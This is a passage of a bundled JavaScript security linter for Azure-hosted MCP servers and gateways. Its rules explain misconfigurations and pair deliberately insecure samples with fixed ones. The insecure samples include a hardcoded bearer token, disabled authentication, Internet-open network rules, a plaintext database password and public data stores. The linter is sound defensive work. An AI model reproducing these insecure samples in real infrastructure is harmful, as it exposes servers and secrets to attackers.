   why: "A limit protects only if it counts the calls of one caller. Pipelines behind one IP address share a counter, while a caller with two addresses has twice the limit. A header, including `Mcp-Session-Id`, is chosen by the caller: each new session gets a new counter. A missing limit, a limit by subscription and a limit above 50 calls a minute are notes. A key in a variable is followed to where it is set.",
   fix: "Use `rate-limit-by-key` with a claim of the validated token as `counter-key`. `oid` identifies users and applications.",
   securitySeverity: 5.3,
   references: [ "https://learn.microsoft.com/azure/api-management/rate-limit-by-key-policy", "https://learn.microsoft.com/azure/api-management/api-management-sample-flexible-throttling" ],
   bad: policyWith(`<validate-azure-ad-token tenant-id="{{tenant-id}}">\n      <audiences>\n        <audience>{{mcp-gateway-app-id}}</audience>\n      </audiences>\n    </validate-azure-ad-token>\n    <rate-limit-by-key calls="50" renewal-period="60" counter-key="@(context.Request.IpAddress)" />`),
   good: goodPolicy
  };
  // CONCATENATED MODULE: ./build/shared/lint/rules/gateway/gateway-scope-list.about.js
  const gateway_scope_list_about_about = {
   summary: "Scopes of a token are compared as one text",
   why: "The claim `scp` holds all scopes of a token in one string, separated by spaces. Without `separator` the whole string is compared: a token with `mcp.tools.read mcp.tools.write` equals neither value, and is refused although it has both. The check passes a test with one scope and fails for the first user with two.",
   fix: 'Add `separator=" "` to the claim. In an expression, split the string before you look for a scope in it.',
   securitySeverity: 3.1,
   references: [ "https://learn.microsoft.com/entra/identity-platform/access-token-claims-reference", "https://learn.microsoft.com/azure/api-management/validate-jwt-policy" ],
   bad: policyWith(`<validate-jwt header-name="Authorization">\n      <openid-config url="https://login.microsoftonline.com/{{tenant-id}}/v2.0/.well-known/openid-configuration" />\n      <audiences>\n        <audience>{{mcp-gateway-app-id}}</audience>\n      </audiences>\n      <required-claims>\n        <claim name="scp" match="any">\n          <value>mcp.tools.read</value>\n        </claim>\n      </required-claims>\n    </validate-jwt>`),
   good: goodPolicy
  };
  // CONCATENATED MODULE: ./build/shared/lint/rules/gateway/gateway-session-constant.about.js
  const gateway_session_constant_about_about = {
   summary: "Session or token is a constant in the policy",
   why: "A session ID or a token that is written into a policy is the same for all callers. Everyone who can read the repository, or the policy in the portal, has it, and it can only be rotated by a deployment.",
   fix: "Validate tokens of the issuer, create session IDs at random, and read keys of servers from named values in Key Vault.",
   securitySeverity: 8.4,
   references: [ "https://learn.microsoft.com/azure/api-management/api-management-howto-properties", "https://cwe.mitre.org/data/definitions/798.html" ],
   bad: policyWith(`<choose>\n      <when condition="@(context.Request.Headers.GetValueOrDefault("Authorization", "") != "Bearer test-access")">\n        <return-response>\n          <set-status code="401" />\n        </return-response>\n      </when>\n    </choose>`),
   good: goodPolicy
  };
  // CONCATENATED MODULE: ./build/shared/lint/rules/gateway/gateway-shuts-out-pipelines.about.js
  const gateway_shuts_out_pipelines_about_about = {
   summary: "Policy refuses every pipeline",
   why: "An application token, such as that of a pipeline with a managed or federated identity, carries `roles` and never `scp`. A policy that requires `scp` answers 401 to all of them, and a common workaround is to give the pipeline the token of a person. If the API is for people only, suppress the finding and give that as the reason.",
   fix: 'Set `output-token-variable-name="jwt"`, read `scp` where the token has it and `roles` where it has not, and refuse with 403 where neither holds what the tool needs.',
   securitySeverity: 3.7,
   references: [ "https://learn.microsoft.com/entra/identity-platform/access-token-claims-reference", "https://learn.microsoft.com/azure/api-management/validate-jwt-policy" ],
   bad: policyWith(`<validate-jwt header-name="Authorization">\n      <openid-config url="https://login.microsoftonline.com/{{tenant-id}}/v2.0/.well-known/openid-configuration" />\n      <audiences>\n        <audience>{{mcp-gateway-app-id}}</audience>\n      </audiences>\n      <required-claims>\n        <claim name="scp" match="any" separator=" ">\n          <value>mcp.tools.read</value>\n        </claim>\n      </required-claims>\n    </validate-jwt>`),
   good: goodPolicy
  };
  // CONCATENATED MODULE: ./build/shared/lint/rules/gateway/gateway-tier.about.js
  const gateway = sku => ({
   file: "gateway.tf",
   text: `resource "azurerm_api_management" "mcp" {\n  name                 = "apim-mcp"\n  location             = "westeurope"\n  resource_group_name  = "rg-mcp"\n  publisher_name       = "Contoso"\n  publisher_email      = "mcp@contoso.com"\n  sku_name             = "${sku}"\n  virtual_network_type = "Internal"\n\n  virtual_network_configuration {\n    subnet_id = var.subnet_id\n  }\n}\n`
  });
  const gateway_tier_about_about = {
   summary: "Tier of the gateway does not support network injection",
   why: "Only the tiers Developer, Premium and Premium v2 can be injected into a virtual network; Standard v2 supports outbound integration only. A deployment that asks another tier for it fails, and a common workaround is to remove the network, which exposes the gateway to the Internet.",
   fix: "Use Premium in production, or set `virtual_network_type` to what the tier supports and protect the servers with private endpoints.",
   securitySeverity: 2,
   references: [ "https://learn.microsoft.com/azure/api-management/virtual-network-concepts" ],
   bad: gateway("Standard_1"),
   good: gateway("Premium_1")
  };
  // CONCATENATED MODULE: ./build/shared/lint/rules/gateway/gateway-token-keys.about.js
  const gateway_token_keys_about_about = {
   summary: "Gateway validates tokens with a key from the policy text",
   why: "The text of `<key>` is a symmetric key in Base64. Anyone who can read the repository can sign tokens with it. A URL in its place is not a key: no valid token can pass, and the check is often removed as a result.",
   fix: "Use `<openid-config>` with the metadata of the issuer, so that the gateway follows key rotation. Where a key is needed, keep it in Key Vault and use a named value, or a certificate with `certificate-id`.",
   securitySeverity: 8.2,
   references: [ "https://learn.microsoft.com/azure/api-management/validate-jwt-policy", "https://learn.microsoft.com/azure/api-management/api-management-howto-properties" ],
   bad: policyWith(`<validate-jwt header-name="Authorization">\n      <issuer-signing-keys>\n        <key>https://login.microsoftonline.com/common/discovery/v2.0/keys</key>\n      </issuer-signing-keys>\n      <audiences>\n        <audience>{{mcp-gateway-app-id}}</audience>\n      </audiences>\n    </validate-jwt>`),
   good: goodPolicy
  };
  // CONCATENATED MODULE: ./build/shared/lint/rules/gateway/gateway-without-base.about.js
  const gateway_without_base_about_about = {
   summary: "Section of a policy has no `<base />`",
   why: "Policies of wider scopes, such as rate limits, logging or IP filters for all APIs, apply to an API only where its policy has `<base />`. A section without it, or a section that is missing, drops them for this API, and the global policy does not show that. Global policies, sections that only return a response, and a `backend` section with its own `forward-request` are not reported.",
   fix: "Write all four sections, each with `<base />`.",
   securitySeverity: 4.3,
   references: [ "https://learn.microsoft.com/azure/api-management/api-management-howto-policies", "https://learn.microsoft.com/azure/api-management/set-edit-policies" ],
   bad: {
    file: goodPolicy.file,
    text: policyWith('<set-backend-service backend-id="mcp-files" />').text.replace("    <base />\n", "")
   },
   good: goodPolicy
  };
  // CONCATENATED MODULE: ./build/shared/lint/rules/gateway/gateway-without-token-check.about.js
  const gateway_without_token_check_about_about = {
   summary: "Policy of an MCP API checks no token",
   why: "Without `validate-jwt` or `validate-azure-ad-token` anyone who can reach the gateway can call every tool. A subscription key does not replace a token: it names a product, not a caller. Where the section has `<base />`, the check may come from a policy at a wider scope that is not in the repository; the finding is then a warning. OAuth endpoints, protected resource metadata and policies with an unconditional `return-response` need no token and are not reported. A policy that refuses calls by a check of its own is not reported either.",
   fix: "Add `<validate-jwt>` with `<openid-config>`, `<audiences>` and `<issuers>` after `<base />` in `<inbound>`.",
   securitySeverity: 8.6,
   references: [ "https://learn.microsoft.com/azure/api-management/validate-jwt-policy", "https://learn.microsoft.com/azure/api-management/secure-mcp-servers" ],
   bad: policyWith(`<set-backend-service backend-id="mcp-files" />`),
   good: goodPolicy
  };
  // CONCATENATED MODULE: ./build/shared/lint/rules/gateway/gateway-without-tool-classes.about.js
  const gateway_without_tool_classes_about_about = {
   summary: "Every token may call every tool",
   why: "If the gateway checks only that a token is valid, a caller who may only read can also call the tools that write. A list of scopes of which any one is enough has the same effect. All tools of an MCP server share one path, so the gateway has to read the method and the tool from the message. An API whose operations have policies of their own is not reported. Where the repository has the [policy file](../policy.md) of `call` and the named value `mcp-tools-<server>`, both must have the same classes: that they differ is a warning.",
   fix: "Read the tool from the message, give each tool a class, and refuse with 403 and `insufficient_scope` what the token does not grant. Tools that are in no class are refused. `mcp-gatehouse policy` prints the table from the policy file.",
   securitySeverity: 4.3,
   references: [ "https://learn.microsoft.com/azure/api-management/secure-mcp-servers", "https://modelcontextprotocol.io/specification/2025-11-25/basic/security_best_practices" ],
   bad: policyWith(`<validate-azure-ad-token tenant-id="{{tenant-id}}">\n      <audiences>\n        <audience>{{mcp-gateway-app-id}}</audience>\n      </audiences>\n    </validate-azure-ad-token>`),
   good: goodPolicy
  };
  // CONCATENATED MODULE: ./build/shared/lint/rules/gateway/gateway-without-validation.about.js
  const gateway_without_validation_about_about = {
   summary: "Policy limits neither type, size nor shape of requests",
   why: "Without a check at the gateway, each server has to handle bodies of any size and type, and messages that are not JSON-RPC. A check of the body in the policy that ends in a refusal counts, and so do policies at wider scopes.",
   fix: "Use `<validate-content>` for type and size, or read the message once and refuse it if its method is unknown.",
   securitySeverity: 3.1,
   references: [ "https://learn.microsoft.com/azure/api-management/validate-content-policy", "https://cheatsheetseries.owasp.org/cheatsheets/REST_Security_Cheat_Sheet.html" ],
   bad: policyWith(`<validate-azure-ad-token tenant-id="{{tenant-id}}">\n      <audiences>\n        <audience>{{mcp-gateway-app-id}}</audience>\n      </audiences>\n    </validate-azure-ad-token>`),
   good: goodPolicy
  };
  // CONCATENATED MODULE: ./build/shared/lint/rules/gateway/about.js
  const gateway_about_abouts = {
   "forgeable-caller": forgeable_caller_about_about,
   "gateway-any-tenant": gateway_any_tenant_about_about,
   "gateway-audience": gateway_audience_about_about,
   "gateway-buffers-stream": gateway_buffers_stream_about_about,
   "gateway-forwards-token": gateway_forwards_token_about_about,
   "gateway-log": gateway_log_about_about,
   "gateway-logger-missing": gateway_logger_missing_about_about,
   "gateway-logs-secrets": gateway_logs_secrets_about_about,
   "gateway-rate-limit": gateway_rate_limit_about_about,
   "gateway-scope-list": gateway_scope_list_about_about,
   "gateway-session-constant": gateway_session_constant_about_about,
   "gateway-shuts-out-pipelines": gateway_shuts_out_pipelines_about_about,
   "gateway-tier": gateway_tier_about_about,
   "gateway-token-keys": gateway_token_keys_about_about,
   "gateway-without-base": gateway_without_base_about_about,
   "gateway-without-token-check": gateway_without_token_check_about_about,
   "gateway-without-tool-classes": gateway_without_tool_classes_about_about,
   "gateway-without-validation": gateway_without_validation_about_about
  };
  var rules_gateway = __webpack_require__(45308);
  // CONCATENATED MODULE: ./build/shared/lint/rules/governance/anonymous-server.about.js
  const anonymous_server_about_about = {
   summary: "MCP server does not authenticate its callers",
   why: "A server that accepts anonymous callers acts for all of them with its own rights: anyone who can reach it can read and write what it can, and the log names no caller. Switches such as `DISABLE_AUTH` are made for a developer's machine, and a template carries them into production.",
   fix: "Remove the switch, or let the platform answer 401: `requireAuthentication: true` with `unauthenticatedClientAction: 'Return401'`. What a parameter decides is never reported.",
   securitySeverity: 9.1,
   references: [ "https://learn.microsoft.com/azure/app-service/overview-authentication-authorization", "https://modelcontextprotocol.io/specification/draft/basic/authorization" ],
   bad: {
    file: "main.bicep",
    text: `resource environment 'Microsoft.App/managedEnvironments@2024-03-01' = {\n  name: 'cae-tools'\n  location: resourceGroup().location\n}\n\nresource identity 'Microsoft.ManagedIdentity/userAssignedIdentities@2024-11-30' = {\n  name: 'id-mcp-docs'\n  location: resourceGroup().location\n}\n\nresource server 'Microsoft.App/containerApps@2024-03-01' = {\n  name: 'ca-mcp-docs'\n  location: resourceGroup().location\n  identity: {\n    type: 'UserAssigned'\n    userAssignedIdentities: {\n      '\${identity.id}': {}\n    }\n  }\n  properties: {\n    environmentId: environment.id\n    configuration: {\n      ingress: {\n        external: false\n        targetPort: 8000\n      }\n    }\n    template: {\n      containers: [\n        {\n          name: 'mcp-docs'\n          image: 'acme.azurecr.io/mcp-docs@sha256:1111111111111111111111111111111111111111111111111111111111111111'\n          env: [\n            {\n              name: 'DISABLE_AUTH'\n              value: 'true'\n            }\n          ]\n        }\n      ]\n    }\n  }\n}\n`
   },
   good: {
    file: "main.bicep",
    text: `resource environment 'Microsoft.App/managedEnvironments@2024-03-01' = {\n  name: 'cae-tools'\n  location: resourceGroup().location\n}\n\nresource identity 'Microsoft.ManagedIdentity/userAssignedIdentities@2024-11-30' = {\n  name: 'id-mcp-docs'\n  location: resourceGroup().location\n}\n\nresource server 'Microsoft.App/containerApps@2024-03-01' = {\n  name: 'ca-mcp-docs'\n  location: resourceGroup().location\n  identity: {\n    type: 'UserAssigned'\n    userAssignedIdentities: {\n      '\${identity.id}': {}\n    }\n  }\n  properties: {\n    environmentId: environment.id\n    configuration: {\n      ingress: {\n        external: false\n        targetPort: 8000\n      }\n    }\n    template: {\n      containers: [\n        {\n          name: 'mcp-docs'\n          image: 'acme.azurecr.io/mcp-docs@sha256:1111111111111111111111111111111111111111111111111111111111111111'\n        }\n      ]\n    }\n  }\n}\n`
   }
  };
  // CONCATENATED MODULE: ./build/shared/lint/rules/governance/gateway-side-door.about.js
  const gateway_side_door_about_about = {
   summary: "MCP server can be reached past the gateway in front of it",
   why: "The gateway checks the token, the tool and the rate of each call, and writes it down. A server that also answers at an address of its own is called without any of that: all that the gateway does is then advice. It is the most common mistake in real deployments, as container apps, web apps and function apps have a public address unless it is closed. A rule of a network security group that lets build machines or developers reach the port of the server is the same door. It is a warning where the host itself asks callers for a key or a token.",
   fix: "Let the server be reached from the subnet of the gateway alone: an internal ingress, a private endpoint, or rules that name the gateway's subnet and nothing else. Build machines call the gateway as everybody does.",
   securitySeverity: 8.2,
   references: [ "https://learn.microsoft.com/azure/api-management/virtual-network-concepts", "https://learn.microsoft.com/azure/container-apps/ingress-overview" ],
   bad: {
    file: "main.bicep",
    text: `resource environment 'Microsoft.App/managedEnvironments@2024-03-01' = {\n  name: 'cae-tools'\n  location: resourceGroup().location\n}\n\nresource identity 'Microsoft.ManagedIdentity/userAssignedIdentities@2024-11-30' = {\n  name: 'id-mcp-docs'\n  location: resourceGroup().location\n}\n\nresource server 'Microsoft.App/containerApps@2024-03-01' = {\n  name: 'ca-mcp-docs'\n  location: resourceGroup().location\n  identity: {\n    type: 'UserAssigned'\n    userAssignedIdentities: {\n      '\${identity.id}': {}\n    }\n  }\n  properties: {\n    environmentId: environment.id\n    configuration: {\n      ingress: {\n        external: true\n        targetPort: 8000\n      }\n    }\n    template: {\n      containers: [\n        {\n          name: 'mcp-docs'\n          image: 'acme.azurecr.io/mcp-docs@sha256:1111111111111111111111111111111111111111111111111111111111111111'\n        }\n      ]\n    }\n  }\n}\n\nresource gateway 'Microsoft.ApiManagement/service@2024-05-01' existing = {\n  name: 'apim-acme'\n}\n\nresource backend 'Microsoft.ApiManagement/service/backends@2024-05-01' = {\n  parent: gateway\n  name: 'mcp-docs'\n  properties: {\n    protocol: 'http'\n    url: 'https://\${server.properties.configuration.ingress.fqdn}/mcp'\n  }\n}\n`
   },
   good: {
    file: "main.bicep",
    text: `resource environment 'Microsoft.App/managedEnvironments@2024-03-01' = {\n  name: 'cae-tools'\n  location: resourceGroup().location\n}\n\nresource identity 'Microsoft.ManagedIdentity/userAssignedIdentities@2024-11-30' = {\n  name: 'id-mcp-docs'\n  location: resourceGroup().location\n}\n\nresource server 'Microsoft.App/containerApps@2024-03-01' = {\n  name: 'ca-mcp-docs'\n  location: resourceGroup().location\n  identity: {\n    type: 'UserAssigned'\n    userAssignedIdentities: {\n      '\${identity.id}': {}\n    }\n  }\n  properties: {\n    environmentId: environment.id\n    configuration: {\n      ingress: {\n        external: false\n        targetPort: 8000\n      }\n    }\n    template: {\n      containers: [\n        {\n          name: 'mcp-docs'\n          image: 'acme.azurecr.io/mcp-docs@sha256:1111111111111111111111111111111111111111111111111111111111111111'\n        }\n      ]\n    }\n  }\n}\n\nresource gateway 'Microsoft.ApiManagement/service@2024-05-01' existing = {\n  name: 'apim-acme'\n}\n\nresource backend 'Microsoft.ApiManagement/service/backends@2024-05-01' = {\n  parent: gateway\n  name: 'mcp-docs'\n  properties: {\n    protocol: 'http'\n    url: 'https://\${server.properties.configuration.ingress.fqdn}/mcp'\n  }\n}\n`
   }
  };
  // CONCATENATED MODULE: ./build/shared/lint/rules/governance/missing-server-tag.about.js
  const missing_server_tag_about_about = {
   summary: "MCP server lacks the tag that policies identify it by",
   why: "Azure Policy knows a container group by its tags: a policy that asks MCP servers for a private subnet or an identity looks at those that carry `MCPServer`. One without the tag is under no policy at all, and is missing in every list of servers. Container groups are looked at always, other hosts where the repository tags one of them.",
   fix: "Write the tag `MCPServer` with the value `true`, and deny groups without it by a policy that looks at the image. Tags that a variable brings are never reported.",
   securitySeverity: 3.1,
   references: [ "https://learn.microsoft.com/azure/governance/policy/tutorials/govern-tags" ],
   bad: {
    file: "main.tf",
    text: `resource "azurerm_user_assigned_identity" "docs" {\n  name                = "id-mcp-docs"\n  location            = "westeurope"\n  resource_group_name = "rg-mcp"\n}\n\nresource "azurerm_container_group" "docs" {\n  name                = "aci-mcp-docs"\n  location            = "westeurope"\n  resource_group_name = "rg-mcp"\n  os_type             = "Linux"\n  ip_address_type     = "Private"\n  subnet_ids          = [var.subnet_id]\n\n  identity {\n    type         = "UserAssigned"\n    identity_ids = [azurerm_user_assigned_identity.docs.id]\n  }\n\n  container {\n    name   = "mcp-docs"\n    image  = "acme.azurecr.io/mcp-docs@sha256:1111111111111111111111111111111111111111111111111111111111111111"\n    cpu    = 0.5\n    memory = 0.5\n\n    ports {\n      port     = 8443\n      protocol = "TCP"\n    }\n  }\n}\n`
   },
   good: {
    file: "main.tf",
    text: `resource "azurerm_user_assigned_identity" "docs" {\n  name                = "id-mcp-docs"\n  location            = "westeurope"\n  resource_group_name = "rg-mcp"\n}\n\nresource "azurerm_container_group" "docs" {\n  name                = "aci-mcp-docs"\n  location            = "westeurope"\n  resource_group_name = "rg-mcp"\n  os_type             = "Linux"\n  ip_address_type     = "Private"\n  subnet_ids          = [var.subnet_id]\n\n  identity {\n    type         = "UserAssigned"\n    identity_ids = [azurerm_user_assigned_identity.docs.id]\n  }\n\n  container {\n    name   = "mcp-docs"\n    image  = "acme.azurecr.io/mcp-docs@sha256:1111111111111111111111111111111111111111111111111111111111111111"\n    cpu    = 0.5\n    memory = 0.5\n\n    ports {\n      port     = 8443\n      protocol = "TCP"\n    }\n  }\n\n  tags = {\n    MCPServer = "true"\n  }\n}\n`
   }
  };
  // CONCATENATED MODULE: ./build/shared/lint/rules/governance/open-network-rule.about.js
  const open_network_rule_about_rule = source => `resource "azurerm_network_security_rule" "mcp" {\n  name                        = "mcp"\n  resource_group_name         = "rg-mcp"\n  network_security_group_name = "nsg-mcp"\n  priority                    = 100\n  direction                   = "Inbound"\n  access                      = "Allow"\n  protocol                    = "Tcp"\n  source_address_prefix       = "${source}"\n  source_port_range           = "*"\n  destination_address_prefix  = "*"\n  destination_port_range      = "8080"\n}\n`;
  const open_network_rule_about_about = {
   summary: "Network security rule lets the whole Internet in",
   why: "A server behind a gateway is protected by what the gateway checks: who calls, with which token, how often. A rule that lets `Internet`, `*` or `0.0.0.0/0` reach the port of the server itself leads past all of that, and one that opens a port for management is found by scanners within minutes. Ports 80 and 443 are a note: a gateway has to be reached, a server behind it has not. What is not known in the repository is never reported.",
   fix: "Name the source: the subnet of the gateway for the ports of servers, the subnet of Azure Bastion or a private network for management. Rules with a lower priority number count first, so a deny before the rule closes it as well.",
   securitySeverity: 8.6,
   references: [ "https://learn.microsoft.com/azure/virtual-network/network-security-groups-overview", "https://learn.microsoft.com/azure/security/fundamentals/network-best-practices" ],
   bad: {
    file: "network.tf",
    text: open_network_rule_about_rule("Internet")
   },
   good: {
    file: "network.tf",
    text: open_network_rule_about_rule("10.20.1.0/24")
   }
  };
  // CONCATENATED MODULE: ./build/shared/lint/rules/governance/plain-secret-environment.about.js
  const plain_secret_environment_about_about = {
   summary: "MCP server has a secret in its plain environment",
   why: "Anyone who can read the workload can read its environment: in the portal, in `kubectl describe`, in the Terraform state and in the deployment history. A secret that is written into the template is in the repository as well. A parameter that is `@secure()` or `sensitive` is hidden until it is put into a plain variable. Names that say where something is, client ids, keys that only send telemetry, references to Key Vault and variables that take their value from a store of secrets are left alone.",
   fix: "Keep the secret in Key Vault and let the server read it with its identity. Where it has to be a variable, use what the host keeps apart: `secretRef` (Container Apps), `secureValue` (Container Instances), `valueFrom.secretKeyRef` (Kubernetes), `@Microsoft.KeyVault(SecretUri=…)` (App Service and Functions). Revoke a secret that was written down.",
   securitySeverity: 7.5,
   references: [ "https://learn.microsoft.com/azure/container-apps/manage-secrets", "https://learn.microsoft.com/azure/app-service/app-service-key-vault-references", "https://kubernetes.io/docs/concepts/configuration/secret/" ],
   bad: {
    file: "k8s/server.yaml",
    text: `apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: mcp-github\n  namespace: mcp\nspec:\n  template:\n    spec:\n      containers:\n        - name: server\n          image: acme.azurecr.io/mcp-github@sha256:0f3b9d1c7f5e4a86b2c1d0e9f8a7b6c5d4e3f2a1b0c9d8e7f6a5b4c3d2e1f0a9\n          env:\n            - name: DATABASE_PASSWORD\n              value: tr0ub4dor-and-3\n---\napiVersion: networking.k8s.io/v1\nkind: NetworkPolicy\nmetadata:\n  name: default-deny\n  namespace: mcp\nspec:\n  podSelector: {}\n  policyTypes: [Ingress, Egress]\n`
   },
   good: {
    file: "k8s/server.yaml",
    text: `apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: mcp-github\n  namespace: mcp\nspec:\n  template:\n    spec:\n      containers:\n        - name: server\n          image: acme.azurecr.io/mcp-github@sha256:0f3b9d1c7f5e4a86b2c1d0e9f8a7b6c5d4e3f2a1b0c9d8e7f6a5b4c3d2e1f0a9\n          env:\n            - name: DATABASE_PASSWORD\n              valueFrom:\n                secretKeyRef:\n                  name: mcp-github\n                  key: database-password\n---\napiVersion: networking.k8s.io/v1\nkind: NetworkPolicy\nmetadata:\n  name: default-deny\n  namespace: mcp\nspec:\n  podSelector: {}\n  policyTypes: [Ingress, Egress]\n`
   }
  };
  // CONCATENATED MODULE: ./build/shared/lint/rules/governance/public-data-store.about.js
  const public_data_store_about_about = {
   summary: "Data store of an MCP deployment is open to all networks",
   why: "A server that is told by a prompt to give away a key or a token is a matter of time; what the key opens should then not be reached from everywhere. A storage account, vault, registry or database that every network reaches is one leaked key away from the Internet. An event hub is reported where it also takes shared keys. What has a private endpoint, or rules about networks that let in some only, is left alone.",
   fix: "Turn public access off and reach the store by a private endpoint, or let in the subnets that need it alone.",
   securitySeverity: 5.6,
   references: [ "https://learn.microsoft.com/azure/private-link/private-endpoint-overview" ],
   bad: {
    file: "main.bicep",
    text: `resource environment 'Microsoft.App/managedEnvironments@2024-03-01' = {\n  name: 'cae-tools'\n  location: resourceGroup().location\n}\n\nresource identity 'Microsoft.ManagedIdentity/userAssignedIdentities@2024-11-30' = {\n  name: 'id-mcp-docs'\n  location: resourceGroup().location\n}\n\nresource server 'Microsoft.App/containerApps@2024-03-01' = {\n  name: 'ca-mcp-docs'\n  location: resourceGroup().location\n  identity: {\n    type: 'UserAssigned'\n    userAssignedIdentities: {\n      '\${identity.id}': {}\n    }\n  }\n  properties: {\n    environmentId: environment.id\n    configuration: {\n      ingress: {\n        external: false\n        targetPort: 8000\n      }\n    }\n    template: {\n      containers: [\n        {\n          name: 'mcp-docs'\n          image: 'acme.azurecr.io/mcp-docs@sha256:1111111111111111111111111111111111111111111111111111111111111111'\n        }\n      ]\n    }\n  }\n}\n\nresource vault 'Microsoft.KeyVault/vaults@2024-11-01' = {\n  name: 'kv-mcp-docs'\n  location: resourceGroup().location\n  properties: {\n    tenantId: tenant().tenantId\n    enableRbacAuthorization: true\n    publicNetworkAccess: 'Enabled'\n    sku: {\n      family: 'A'\n      name: 'standard'\n    }\n  }\n}\n`
   },
   good: {
    file: "main.bicep",
    text: `resource environment 'Microsoft.App/managedEnvironments@2024-03-01' = {\n  name: 'cae-tools'\n  location: resourceGroup().location\n}\n\nresource identity 'Microsoft.ManagedIdentity/userAssignedIdentities@2024-11-30' = {\n  name: 'id-mcp-docs'\n  location: resourceGroup().location\n}\n\nresource server 'Microsoft.App/containerApps@2024-03-01' = {\n  name: 'ca-mcp-docs'\n  location: resourceGroup().location\n  identity: {\n    type: 'UserAssigned'\n    userAssignedIdentities: {\n      '\${identity.id}': {}\n    }\n  }\n  properties: {\n    environmentId: environment.id\n    configuration: {\n      ingress: {\n        external: false\n        targetPort: 8000\n      }\n    }\n    template: {\n      containers: [\n        {\n          name: 'mcp-docs'\n          image: 'acme.azurecr.io/mcp-docs@sha256:1111111111111111111111111111111111111111111111111111111111111111'\n        }\n      ]\n    }\n  }\n}\n\nresource vault 'Microsoft.KeyVault/vaults@2024-11-01' = {\n  name: 'kv-mcp-docs'\n  location: resourceGroup().location\n  properties: {\n    tenantId: tenant().tenantId\n    enableRbacAuthorization: true\n    publicNetworkAccess: 'Disabled'\n    sku: {\n      family: 'A'\n      name: 'standard'\n    }\n  }\n}\n`
   }
  };
  // CONCATENATED MODULE: ./build/shared/lint/rules/governance/public-server.about.js
  const public_server_about_about = {
   summary: "MCP server is open to the Internet",
   why: "An MCP server does things for its callers: it reads files, changes repositories, asks databases. A gateway decides who may call which tool, how often, and writes it down. A server with a public address is called without any of that by anyone who finds the address, and addresses of the platform are found within hours. It is an error where the text also says that callers are not authenticated, and a note where the platform asks callers to sign in first.",
   fix: "Give the server an address inside of a network only, and let the gateway reach it there. Where it has to stay public, let in the addresses of the gateway alone.",
   securitySeverity: 7.5,
   references: [ "https://learn.microsoft.com/azure/container-apps/ingress-overview", "https://learn.microsoft.com/azure/app-service/overview-access-restrictions" ],
   bad: {
    file: "main.bicep",
    text: `resource environment 'Microsoft.App/managedEnvironments@2024-03-01' = {\n  name: 'cae-tools'\n  location: resourceGroup().location\n}\n\nresource identity 'Microsoft.ManagedIdentity/userAssignedIdentities@2024-11-30' = {\n  name: 'id-mcp-docs'\n  location: resourceGroup().location\n}\n\nresource server 'Microsoft.App/containerApps@2024-03-01' = {\n  name: 'ca-mcp-docs'\n  location: resourceGroup().location\n  identity: {\n    type: 'UserAssigned'\n    userAssignedIdentities: {\n      '\${identity.id}': {}\n    }\n  }\n  properties: {\n    environmentId: environment.id\n    configuration: {\n      ingress: {\n        external: true\n        targetPort: 8000\n      }\n    }\n    template: {\n      containers: [\n        {\n          name: 'mcp-docs'\n          image: 'acme.azurecr.io/mcp-docs@sha256:1111111111111111111111111111111111111111111111111111111111111111'\n        }\n      ]\n    }\n  }\n}\n`
   },
   good: {
    file: "main.bicep",
    text: `resource environment 'Microsoft.App/managedEnvironments@2024-03-01' = {\n  name: 'cae-tools'\n  location: resourceGroup().location\n}\n\nresource identity 'Microsoft.ManagedIdentity/userAssignedIdentities@2024-11-30' = {\n  name: 'id-mcp-docs'\n  location: resourceGroup().location\n}\n\nresource server 'Microsoft.App/containerApps@2024-03-01' = {\n  name: 'ca-mcp-docs'\n  location: resourceGroup().location\n  identity: {\n    type: 'UserAssigned'\n    userAssignedIdentities: {\n      '\${identity.id}': {}\n    }\n  }\n  properties: {\n    environmentId: environment.id\n    configuration: {\n      ingress: {\n        external: false\n        targetPort: 8000\n      }\n    }\n    template: {\n      containers: [\n        {\n          name: 'mcp-docs'\n          image: 'acme.azurecr.io/mcp-docs@sha256:1111111111111111111111111111111111111111111111111111111111111111'\n        }\n      ]\n    }\n  }\n}\n`
   }
  };
  // CONCATENATED MODULE: ./build/shared/lint/rules/governance/registry-password.about.js
  const registry = admin => `resource "azurerm_container_registry" "mcp" {\n  name                = "acrmcp"\n  resource_group_name = "rg-mcp"\n  location            = "westeurope"\n  sku                 = "Premium"\n  admin_enabled       = ${admin}\n}\n`;
  const registry_password_about_about = {
   summary: "Azure registry is accessed with a password",
   why: "The admin user of a registry is one shared account: its password pulls and pushes every image, belongs to nobody, and is copied into each workload that pulls. Anyone who reads it in the settings of one server can replace the image of all. It is reported where the admin user is enabled, and where a workload pulls from a registry of Azure with a password though no registry here has one. Registries that know passwords only are left alone.",
   fix: "Give the workload a user-assigned identity with the role AcrPull, name it (`identity` of the registry), and switch the admin user off.",
   securitySeverity: 6.5,
   references: [ "https://learn.microsoft.com/azure/container-registry/container-registry-authentication", "https://learn.microsoft.com/azure/container-apps/managed-identity-image-pull" ],
   bad: {
    file: "registry.tf",
    text: registry("true")
   },
   good: {
    file: "registry.tf",
    text: registry("false")
   }
  };
  // CONCATENATED MODULE: ./build/shared/lint/rules/governance/removed-argument.about.js
  const credential = argument => `terraform {\n  required_providers {\n    azurerm = {\n      source  = "hashicorp/azurerm"\n      version = "~> 5.0"\n    }\n  }\n}\n\nresource "azurerm_federated_identity_credential" "deploy" {\n  name     = "deploy"\n  ${argument} = azurerm_user_assigned_identity.deploy.id\n  audience = ["api://AzureADTokenExchange"]\n  issuer   = "https://token.actions.githubusercontent.com"\n  subject  = "repo:acme@1001/tools@2002:environment:production"\n}\n\nresource "azurerm_user_assigned_identity" "deploy" {\n  name                = "id-deploy"\n  resource_group_name = "rg-mcp"\n  location            = "westeurope"\n}\n`;
  const removed_argument_about_about = {
   summary: "Argument was removed in the version of azurerm that is used",
   why: "A control that does not apply protects nothing. An example that was written for an older provider fails at the first plan, and is then often taken out instead of corrected. The version is that of `.terraform.lock.hcl`, or the lower bound of the constraint; where neither says which version is used, nothing is reported.",
   fix: "Write the argument that takes its place, as the upgrade guide of the provider says.",
   securitySeverity: 2.1,
   references: [ "https://registry.terraform.io/providers/hashicorp/azurerm/latest/docs/guides/5.0-upgrade-guide", "https://registry.terraform.io/providers/hashicorp/azurerm/latest/docs/guides/4.0-upgrade-guide" ],
   bad: {
    file: "identity.tf",
    text: credential("parent_id")
   },
   good: {
    file: "identity.tf",
    text: credential("user_assigned_identity_id")
   }
  };
  // CONCATENATED MODULE: ./build/shared/lint/rules/governance/reusable-dns-label.about.js
  const reusable_dns_label_about_about = {
   summary: "DNS label of an MCP server can be taken over",
